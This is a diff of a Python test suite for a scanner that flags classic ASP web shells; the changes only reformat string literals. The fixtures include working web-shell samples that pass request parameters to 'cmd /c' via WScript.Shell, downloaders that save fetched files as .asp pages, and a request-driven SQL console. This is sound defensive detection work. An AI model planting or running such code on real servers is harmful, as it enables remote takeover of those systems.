@@ -117,9 +117,12 @@ CODE_BENIGN = {
         'Set rs = conn.Execute("SELECT * FROM news WHERE title LIKE \'%" & '
         'Replace(Request("q"), "\'", "\'\'") & "%\'")\n%>'
     ),
-    "comment-mentions-execute": '<%\n\' Execute Request("x") would be a web shell\nRem Eval(Request(1))\n%>',
+    "comment-mentions-execute": (
+        '<%\n\' Execute Request("x") would be a web shell\nRem Eval(Request(1))\n%>'
+    ),
     "client-side-script": (
-        '<script language="javascript">\nvar q = location.search;\neval("f(" + q + ")");\n</script>\n'
+        '<script language="javascript">\nvar q = location.search;\n'
+        'eval("f(" + q + ")");\n</script>\n'
         '<%= Request("name") %>'
     ),
 }
@@ -138,7 +141,8 @@ def test_benign_code_is_not_flagged(name: str) -> None:
     [
         '<%\nSet sh = CreateObject("WScript.Shell")\nSet x = sh.Exec("cmd /c " & Request("c"))\n'
         "Response.Write x.StdOut.ReadAll\n%>",
-        f'<%\nSet sh = Server.CreateObject({_chr("WScript.Shell")})\nsh.Run Request.Form("p"), 0\n%>',
+        f"<%\nSet sh = Server.CreateObject({_chr('WScript.Shell')})\n"
+        f'sh.Run Request.Form("p"), 0\n%>',
         '<object runat="server" id="ws" scope="page" '
         'classid="clsid:72C24DD5-D70A-438B-8A42-98424B88AFB8"></object>\n'
         '<%\nws.Run "cmd.exe /c " & Request("c")\n%>',
@@ -194,7 +198,8 @@ def test_upload_into_fixed_folder_is_not_a_dropper() -> None:
 
 def test_downloader_saving_a_script() -> None:
     page = (
-        '<%\nSet h = CreateObject("Microsoft.XMLHTTP")\nh.Open "GET", "http://example.test/a.txt", False\n'
+        '<%\nSet h = CreateObject("Microsoft.XMLHTTP")\n'
+        'h.Open "GET", "http://example.test/a.txt", False\n'
         'h.Send\nSet s = CreateObject("ADODB.Stream")\ns.Type = 1\ns.Open\ns.Write h.responseBody\n'
         's.SaveToFile Server.MapPath("x.asp"), 2\n%>'
     )
@@ -204,7 +209,8 @@ def test_downloader_saving_a_script() -> None:
 
 def test_downloader_with_request_url() -> None:
     page = (
-        '<%\nSet h = Server.CreateObject("MSXML2.ServerXMLHTTP")\nh.Open "GET", Request("u"), False\n'
+        '<%\nSet h = Server.CreateObject("MSXML2.ServerXMLHTTP")\n'
+        'h.Open "GET", Request("u"), False\n'
         'h.Send\nSet s = CreateObject("ADODB.Stream")\ns.Open\ns.Write h.responseBody\n'
         's.SaveToFile Server.MapPath("cache/feed.xml"), 2\n%>'
     )
@@ -213,7 +219,8 @@ def test_downloader_with_request_url() -> None:
 
 def test_feed_cache_is_not_a_downloader() -> None:
     page = (
-        '<%\nSet h = CreateObject("MSXML2.ServerXMLHTTP")\nh.Open "GET", "https://news.test/rss", False\n'
+        '<%\nSet h = CreateObject("MSXML2.ServerXMLHTTP")\n'
+        'h.Open "GET", "https://news.test/rss", False\n'
         'h.Send\nSet s = CreateObject("ADODB.Stream")\ns.Open\ns.Write h.responseBody\n'
         's.SaveToFile Server.MapPath("cache/rss.xml"), 2\n%>'
     )
@@ -225,7 +232,8 @@ def test_feed_cache_is_not_a_downloader() -> None:
 
 def test_sql_console() -> None:
     page = (
-        '<%\nSession("dsn") = Request.Form("dsn")\nSet c = Server.CreateObject("ADODB.Connection")\n'
+        '<%\nSession("dsn") = Request.Form("dsn")\n'
+        'Set c = Server.CreateObject("ADODB.Connection")\n'
         'c.Open Session("dsn")\nsql = Request.Form("sql")\nSet rs = c.Execute(sql)\n%>'
     )
     finding = _flagged(page)["SSC-003-443"]
@@ -336,7 +344,8 @@ def test_xslt_script_with_shell() -> None:
 def test_plain_xslt_is_benign() -> None:
     page = (
         '<%\nSet s = Server.CreateObject("MSXML2.DOMDocument")\n'
-        "s.loadXML \"<xsl:stylesheet><xsl:template match='/'>hi</xsl:template></xsl:stylesheet>\"\n%>"
+        's.loadXML "<xsl:stylesheet><xsl:template'
+        " match='/'>hi</xsl:template></xsl:stylesheet>\"\n%>"
     )
     assert _flagged(page) == {}
 
